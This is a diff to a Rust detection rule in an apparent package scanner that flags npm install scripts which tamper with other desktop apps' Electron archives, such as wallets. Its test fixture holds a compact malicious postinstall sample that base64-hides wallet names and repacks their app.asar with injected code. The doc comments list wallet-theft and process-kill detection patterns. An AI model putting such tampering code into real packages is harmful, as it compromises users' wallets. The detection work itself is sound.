@@ -26,7 +26,10 @@ diligence_finding::declare_rule! {
     /// `~/.npmrc` write: critical at install, high at load. Wherever it runs: content read from a desktop wallet
     /// application's folder (Exodus, Atomic, Electrum) that value flow follows into a file write — the wallet's
     /// `app.asar` rebuilt with injected code, or its files staged for theft: critical. Whenever it runs (an API
-    /// call is enough): a write to another desktop application's code — an Electron `.asar` archive, a file
+    /// call is enough): a write to another desktop application's code — also when the archive path sits in a
+    /// table (`/Applications/X.app/Contents/Resources/app.asar`, `%LOCALAPPDATA%\Programs\X\resources\app.asar`,
+    /// names possibly base64-encoded) and is handed to a helper that copies, renames or repacks it (critical at
+    /// install)  — an Electron `.asar` archive, a file
     /// inside a macOS bundle (`X.app/Contents/…`), Discord's `discord_desktop_core` — in a file that names where
     /// other applications are installed (`/Applications/X.app`, `%LOCALAPPDATA%\Programs`, a `.app` bundle
     /// name): high; critical when the same file downloads (the replacement comes from the network) or kills a
@@ -140,10 +143,19 @@ fn other_application(p: &PackageFacts, f: &FileFacts) -> Option<CodeFinding> {
     if f.kind != FileKind::JavaScript || super::is_bundle(f) {
         return None;
     }
-    let hit = f
-        .of(Kind::OtherPackage)
-        .find(|s| s.detail.starts_with("application|"))?;
     let text = f.text.as_deref().unwrap_or("");
+    let direct = f
+        .of(Kind::OtherPackage)
+        .find(|s| s.detail.starts_with("application|"));
+    // The archive path is built in a table and handed to a helper that copies, renames or
+    // repacks it (`asar.createPackage(tmp, file)`, `fs.copyFileSync(file, file + '.bak')`): a
+    // line that names an installed application's `resources/app.asar` and a write elsewhere.
+    let staged = || {
+        f.of(Kind::FsWrite)
+            .next()
+            .filter(|_| text.lines().any(installed_archive))
+    };
+    let hit = direct.or_else(staged)?;
     // An Electron app updating its own archive.
     if text.contains("resourcesPath") || text.contains("getAppPath") {
         return None;
@@ -166,12 +178,16 @@ fn other_application(p: &PackageFacts, f: &FileFacts) -> Option<CodeFinding> {
         let line = f.snippet(s.line).to_ascii_lowercase();
         line.contains("taskkill") || line.contains("pkill") || line.contains("killall")
     });
-    let severity = if download || kill {
+    let severity = if download || kill || direct.is_none() && f.install_time {
         PACKAGE_TAMPER.default_severity
     } else {
         Severity::High
     };
-    let what = hit.detail.trim_start_matches("application|");
+    let what = if direct.is_some() {
+        hit.detail.trim_start_matches("application|")
+    } else {
+        "an installed application's app.asar"
+    };
     let mut why = Vec::new();
     if download {
         why.push("the file downloads");
@@ -198,6 +214,32 @@ fn other_application(p: &PackageFacts, f: &FileFacts) -> Option<CodeFinding> {
             &[Kind::Network, Kind::Spawn, Kind::CredentialPath],
         ),
     ))
+}
+
+/// True for a line that names an installed application's Electron archive: `resources/app.asar`
+/// (or `'resources', 'app.asar'`) next to where applications are installed (`/Applications/`,
+/// `%LOCALAPPDATA%`, `Programs`, `/opt/`), not the project's own build output.
+fn installed_archive(line: &str) -> bool {
+    let l = line.to_ascii_lowercase();
+    let archive = [
+        "resources/app.asar",
+        "resources\\app.asar",
+        "'resources', 'app.asar'",
+        "\"resources\", \"app.asar\"",
+    ]
+    .iter()
+    .any(|a| l.contains(a));
+    archive
+        && [
+            "/applications/",
+            "localappdata",
+            "'programs'",
+            "\"programs\"",
+            "/opt/",
+            "program files",
+        ]
+        .iter()
+        .any(|m| l.contains(m))
 }
 
 /// Desktop wallet applications whose install or data folders no package has reason to write.
@@ -295,7 +337,7 @@ fn target(own: &str, f: &FileFacts, s: &Signal) -> Option<(String, bool)> {
 #[cfg(test)]
 mod tests {
     use crate::Verdict;
-    use crate::rules::test_util::{PJ, hits, scan};
+    use crate::rules::test_util::{PJ, hits, scan, severity};
     use diligence_finding::Severity;
 
     /// A converter's API replaces a wallet application's `app.asar` with downloaded bytes after
@@ -466,6 +508,75 @@ exports.optimize = () => targets().forEach(patch);
             vec![("index.js".to_string(), 10)]
         );
         assert_eq!(s.findings[0].severity, Severity::Critical);
+    }
+
+    /// A postinstall "font registration" step lists wallet applications' archives (names
+    /// base64-encoded) and repacks them through a helper: pdf-to-office (2025).
+    #[test]
+    fn positive_install_repacks_listed_application_archives() {
+        let s = scan(&[
+            (
+                "package.json",
+                r#"{"name":"t","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node setup.js"}}"#,
+            ),
+            ("index.js", "module.exports = 1;\n"),
+            (
+                "setup.js",
+                "const fs = require('fs');
+const path = require('path');
+const asar = require('@electron/asar');
+const A = (s) => Buffer.from(s, 'base64').toString();
+const list = ['/Applications/' + A('V2FsbGV0') + '.app/Contents/Resources/app.asar', path.join(process.env.LOCALAPPDATA || '', 'Programs', A('d2FsbGV0'), 'resources', 'app.asar')];
+function patch(file) {
+  if (!fs.existsSync(file)) return;
+  fs.copyFileSync(file, file + '.bak');
+  const tmp = fs.mkdtempSync('/tmp/x');
+  asar.extractAll(file, tmp);
+  fs.appendFileSync(path.join(tmp, 'app.js'), ';hook()');
+  asar.createPackage(tmp, file);
+}
+list.forEach((f) => { try { patch(f); } catch (e) {} });
+",
+            ),
+        ]);
+        assert_eq!(
+            severity(&s, "code/package-tamper"),
+            Some(Severity::Critical),
+            "{:?}",
+            s.findings
+        );
+        assert_eq!(s.verdict, Verdict::Malicious);
+    }
+
+    /// A macOS DMG builder links `/Applications` in the disk image and writes the app bundle's
+    /// archive into its output folder.
+    #[test]
+    fn negative_dmg_builder_links_applications() {
+        let s = scan(&[
+            (
+                "package.json",
+                r#"{"name":"t","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node setup.js"}}"#,
+            ),
+            (
+                "index.js",
+                "const fs = require('fs');
+const path = require('path');
+const contents = [{ x: 130, y: 220 }, { x: 410, y: 220, type: 'link', path: '/Applications' }];
+exports.build = function (outDir, name, buf) {
+  const res = path.join(outDir, name + '.app', 'Contents', 'Resources');
+  fs.mkdirSync(res, { recursive: true });
+  fs.copyFileSync(buf, path.join(res, 'app.asar'));
+  return contents;
+};
+",
+            ),
+            ("setup.js", "console.log('ok');\n"),
+        ]);
+        assert!(
+            hits(&s, "code/package-tamper").is_empty(),
+            "{:?}",
+            s.findings
+        );
     }
 
     /// An Electron packager packs the project's own folder into `app.asar`.
